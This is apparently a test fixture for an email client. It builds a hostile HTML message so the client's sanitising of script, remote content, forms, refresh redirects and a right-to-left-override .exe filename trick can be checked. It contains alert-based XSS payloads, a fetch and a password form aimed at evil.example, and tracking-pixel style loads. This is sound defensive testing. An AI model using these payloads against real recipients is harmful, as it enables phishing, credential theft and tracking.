import { ORGANISATION } from '../../demo/company.ts'
import type { Fed } from '../../demo/message.ts'

/** Everything that a message tries against the person who looks at it: script, remote content, forms, refresh, hidden text. */
export function hostileMail(): Fed {
  const recipient = ORGANISATION.mailboxes[0]?.address ?? ''
  const subject = `evil \u202Etxt.exe\u202C <img src=x onerror=alert(1)> ${'very long '.repeat(1000)}`
  const html = `<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url(https://evil.example/import.css); body { background: url(https://evil.example/background.png) }</style>
<script>window.top.pwned = 1; alert(1); fetch('https://evil.example/fetch')</script>
<script src="https://evil.example/script.js"></script></head>
<body onload="alert(2)"><p>Hello from the hostile mail</p>
<img src="https://evil.example/pixel.gif" onerror="alert(3)"><img src="x" srcset="https://evil.example/set.png 1x">
<svg onload="alert(4)"><image href="https://evil.example/svg.png"/></svg>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
<video src="https://evil.example/video" autoplay></video>
<form action="https://evil.example/form"><input name="password" autofocus onfocus="alert(5)"><button>Go</button></form>
<a href="https://evil.example/link">a link</a> <a href="javascript:alert(6)">another</a>
<div style="background:url(https://evil.example/inline.png)">styled</div></body></html>`
  const raw = [
    `From: Evil <evil@evil.example>`,
    `To: ${recipient}`,
    `Subject: =?utf-8?B?${Buffer.from(subject).toString('base64')}?=`,
    `Date: ${new Date().toUTCString()}`,
    'Message-ID: <hostile@evil.example>',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    html,
    '',
  ].join('\r\n')
  return { raw: Buffer.from(raw), mailFrom: 'evil@evil.example', recipients: [recipient], receivedAt: new Date() }
}
